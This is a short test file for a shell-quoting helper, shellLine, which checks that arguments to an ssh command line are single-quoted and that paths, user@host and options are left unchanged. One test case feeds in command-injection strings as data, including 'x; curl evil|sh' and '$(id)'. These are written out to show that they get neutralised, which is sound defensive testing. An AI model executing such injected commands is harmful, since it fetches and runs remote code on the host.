import { describe, expect, it } from "vitest";
import { shellLine } from "./shell-line.ts";

describe("shellLine", () => {
  it("quotes what the shell would split, expand or run", () => {
    expect(shellLine("ssh", ["-p", "22", "echo hi", "it's"])).toBe(
      `ssh -p 22 'echo hi' 'it'\\''s'`,
    );
    expect(shellLine("ssh", ["x; curl evil|sh", "$(id)", "`id`", "a&&b", ""])).toBe(
      `ssh 'x; curl evil|sh' '$(id)' '\`id\`' 'a&&b' ''`,
    );
  });
  it("leaves paths, user@host and options as they are", () => {
    expect(shellLine("ssh", ["-i", "~/.ssh/k", "golem@10.0.0.5", "-o", "A=b"])).toBe(
      "ssh -i ~/.ssh/k golem@10.0.0.5 -o A=b",
    );
  });
});
